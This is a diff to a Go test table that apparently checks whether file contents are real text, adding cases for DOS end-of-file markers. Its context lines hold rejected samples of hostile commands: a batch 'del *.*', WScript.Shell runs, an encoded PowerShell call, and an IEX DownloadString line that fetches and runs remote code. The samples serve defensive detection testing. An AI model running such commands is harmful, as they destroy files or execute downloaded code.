@@ -35,6 +35,7 @@ func TestTextsAreToldFromWhatTheySpeakOf(t *testing.T) {
 		{"a.txt", "text/plain", "\xc4\xe3\xba\xc3\xca\xc0\xbd\xe7", true},                               // GBK
 		{"a.txt", "text/plain", strings.Repeat("\x90", 5000), false}, {"a.txt", "text/plain", "MZ" + strings.Repeat("\x90", 300), false}, {"a.txt", "text/plain", "\x80\xff\x81\xfe\x80\xff", false},
 		{"a.csv", "text/csv", "\x00\x01\x02,\xff\xfe", false},
+		{"a.txt", "text/plain", "of DOS\r\n\x1a", true}, {"a.csv", "text/csv", "a,b\r\n\x1a", true}, {"a.txt", "text/plain", "of\x1aDOS\r\n", false}, {"a.txt", "text/plain", "\x1a", false},
 		{"a.txt", "text/plain", "@echo off\r\ndel *.*\r\n", false}, {"a.txt", "text/plain", "Set s = CreateObject(\"WScript.Shell\")\r\ns.Run \"calc\"", false},
 		{"a.txt", "text/plain", "var s = new ActiveXObject('WScript.Shell');", false}, {"a.txt", "text/plain", "#!python\nimport os\n", false},
 		{"a.log", "text/plain", "powershell -enc SQBFAFgA", false}, {"a.txt", "text/plain", "IEX (New-Object Net.WebClient).DownloadString('http://x')", false},
